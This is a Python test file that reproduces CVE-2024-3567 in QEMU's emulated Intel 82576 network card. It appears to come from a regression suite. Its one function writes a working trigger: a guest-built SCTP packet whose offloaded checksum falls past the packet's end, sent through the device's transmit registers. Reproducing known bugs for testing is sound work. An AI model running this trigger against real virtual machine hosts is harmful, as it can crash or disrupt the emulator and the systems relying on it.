# SPDX-License-Identifier: GPL-2.0
"""Intel's 82576 network card"""

import struct

DEVICES = ("igb,netdev=net,mac=52:54:00:12:34:56",)
BACKENDS = ("-netdev hubport,id=net,hubid=0",)
# EEMNGCTL
PROBE = 0, 0x8

TCTL, TDBAL, TDLEN, TDT, TXDCTL = 0x400, 0xe000, 0xe008, 0xe018, 0xe028
TCTL_EN = 2
QUEUE_ENABLE = 1 << 25

DEXT = 1 << 29
CONTEXT, DATA = 2 << 20 | DEXT, 3 << 20 | DEXT
END_OF_PACKET = 1 << 24
SCTP = 2 << 11
CHECKSUM = 2 << 8
IS_IPV4, PROTOCOL_SCTP = 0x45, 132


def cve_2024_3567(guest):
    """The checksum is to be put into an SCTP packet that ends before it."""
    ethernet = bytes(12) + struct.pack(">H", 0x0800)
    ip = struct.pack(">BBHHHBBHII", IS_IPV4, 0, 24, 0, 0, 64, PROTOCOL_SCTP, 0, 1, 2)
    packet = ethernet + ip + bytes(4)
    context = struct.pack("<IIII", 14 << 9 | 20, 0, CONTEXT | SCTP, 0)
    data = struct.pack("<QII", guest.memory(packet), len(packet) | DATA | END_OF_PACKET,
                       len(packet) << 14 | CHECKSUM)
    bar = guest.device.bars[0]
    bar.write(TDBAL, guest.memory(context + data + bytes(96)))
    bar.write(TDLEN, 128)
    bar.write(TCTL, TCTL_EN)
    bar.write(TXDCTL, QUEUE_ENABLE)
    bar.write(TDT, 2)
